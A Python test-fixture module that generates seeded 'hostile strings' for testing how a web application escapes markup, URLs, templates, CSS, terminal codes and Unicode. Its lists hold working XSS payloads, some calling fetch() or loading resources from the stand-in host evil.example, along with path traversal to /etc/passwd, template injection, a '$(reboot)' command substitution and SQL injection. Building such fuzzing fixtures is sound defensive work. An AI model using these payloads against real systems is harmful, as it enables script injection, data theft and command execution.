"""Texts that try to become something else on a page: markup, code, addresses, templates, terminal codes,
changes of direction, and what breaks parsers. The same seed gives the same texts."""

import json
import random

CODE = "window.hacked=(window.hacked||0)+1;alert(1);fetch('http://evil.example/')"
OUTSIDE = "http://evil.example/x"

MARKUP = (
    f"<script>{CODE}</script>",
    f"<ScRiPt >{CODE}</sCrIpT >",
    f"<script src={OUTSIDE}></script>",
    f'<img src=x onerror="{CODE}">',
    f"<img src={OUTSIDE}>",
    f"<svg onload='{CODE}'>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><a xlink:href='javascript:{CODE}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{CODE}'>",
    f"<iframe srcdoc='<script>{CODE}</script>'></iframe>",
    f"<iframe src='javascript:{CODE}'></iframe>",
    f"<object data='{OUTSIDE}'></object>",
    f"<embed src='{OUTSIDE}'>",
    f"<body onload='{CODE}'>",
    f"<input autofocus onfocus='{CODE}'>",
    f"<details open ontoggle='{CODE}'>",
    f"<video><source onerror='{CODE}'></video>",
    f"<marquee onstart='{CODE}'>",
    f"<form action='{OUTSIDE}'><button>Sign in</button></form>",
    f"<button form=x formaction='{OUTSIDE}'>",
    f"<base href='{OUTSIDE}'>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<link rel=stylesheet href={OUTSIDE}>",
    f"<style>@import '{OUTSIDE}'; body {{ display: none }}</style>",
    f"<div style=\"background:url('{OUTSIDE}')\">",
    "<p style='position:fixed;inset:0'>",
    "<template><p></template>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea>",
    "<!--",
    "<![CDATA[",
    "<?php echo 1 ?>",
    "</",
    "<a href='/logout'>",
    "<dialog open>",
    f"<a href='{OUTSIDE}' target=_top autofocus>",
)
ESCAPES = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</td></tr></table>",
    "</pre>",
    "</title>",
    "</textarea>",
    "</select>",
    "</script>",
    "</style>",
    "`",
    "\\",
    "\\u003c/script\\u003e",
    "&quot;&gt;",
    "&#34;&#62;",
    "\n\n",
    "\r\nSet-Cookie: x=1\r\n\r\n",
    "%22%3E",
)
ATTRIBUTES = (
    f'" onmouseover="{CODE}" x="',
    f"' autofocus onfocus='{CODE}' x='",
    f" onclick={CODE} ",
    '" style="position:fixed;inset:0" x="',
    '" hidden x="',
    f'" formaction="{OUTSIDE}" x="',
    '" data-poll data-live="/logout" x="',
    f'" data-curves="{OUTSIDE}" data-live="{OUTSIDE}" x="',
)
ADDRESSES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java\tscript:{CODE}",
    f"\x01javascript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/\\evil.example",
    OUTSIDE,
    "http://127.0.0.1@evil.example/",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "?next=//evil.example#x",
    "a/b?c=d&e=f#g;h",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.__class__.__mro__ }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# comment",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "%s%n%d",
    "{0.__class__}",
    "$(reboot)",
    "'; drop table runs; --",
)
CSS = (
    "expression(alert(1))",
    f"url({OUTSIDE})",
    "}body{display:none",
    "\\65\\78\\70ression(alert(1))",
    "running; background: url(http://evil.example)",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[1;1H",
    "\x9b31m",
    "\x07\x08\x0b\x0c",
    "progress 1%\rprogress 100%",
)
UNICODE = (
    "\u202etxt.exe",
    "\u2066left\u2069\u2067right",
    "\u200b\u200c\u200d\ufeffnothing\u2060",
    "\u2028\u2029",
    "e" + "\u0301" * 200,
    "\uff1cscript\uff1e",
    "\u212a\u0130\u017f",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ufdfd" * 20,
    "\U000e0001\U000e0041\U000e007f",
    "\uffff\ufffe\U0010ffff",
    "\u0628\u0645 123 abc",
)
BROKEN = ("a\x00b", "\x00<script>alert(1)</script>", "\ud800", "\udfff<img src=x>", "x\udc80\x00")
"""Texts that no database and no encoder takes. They can still reach a page by a mistake of ours."""


def hostile_strings(count: int, *, seed: int = 7, storable: bool = False) -> list[str]:
    """`count` different texts. With `storable`, those that JSON and PostgreSQL take."""
    draw = random.Random(seed)
    kinds: list[tuple[str, ...]] = [
        MARKUP,
        ATTRIBUTES,
        ADDRESSES,
        TEMPLATES,
        CSS,
        TERMINAL,
        UNICODE,
    ]
    kinds += [_large(draw)] if storable else [_large(draw), BROKEN]
    found = dict.fromkeys(text for kind in kinds for text in kind)
    while len(found) < count:
        kind = draw.choice((*kinds, MARKUP, ATTRIBUTES))
        text = draw.choice(ESCAPES) + draw.choice(kind) + draw.choice((*ESCAPES, "x", " "))
        if draw.random() < 0.3:
            text = draw.choice(UNICODE) + text + draw.choice(TERMINAL)
        found[text] = None
    chosen = list(found)
    draw.shuffle(chosen)
    return chosen[:count]


def _large(draw: random.Random) -> tuple[str, ...]:
    """Texts that are long or deep, of at most 16 kB."""
    return (
        "A" * 8000,
        "<b>" * 2000,
        "&" * 4000,
        "[" * 4000,
        "word " * 1000,
        "\n" * 2000,
        "\u202e" * 500,
        json.dumps({"a": {"b": [None] * 500}, "</script>": "<img src=x onerror=alert(1)>"}),
        json.dumps({f"k{n}": draw.random() for n in range(200)}),
        "9" * 400,
        "1e999",
        "NaN",
        "-0",
    )


def one_line_of(size: int) -> str:
    """A text of this many bytes without a line end, which is markup."""
    piece = "<script>alert(1)</script>\u202e"
    return (piece * (size // len(piece.encode()) + 1))[:size]
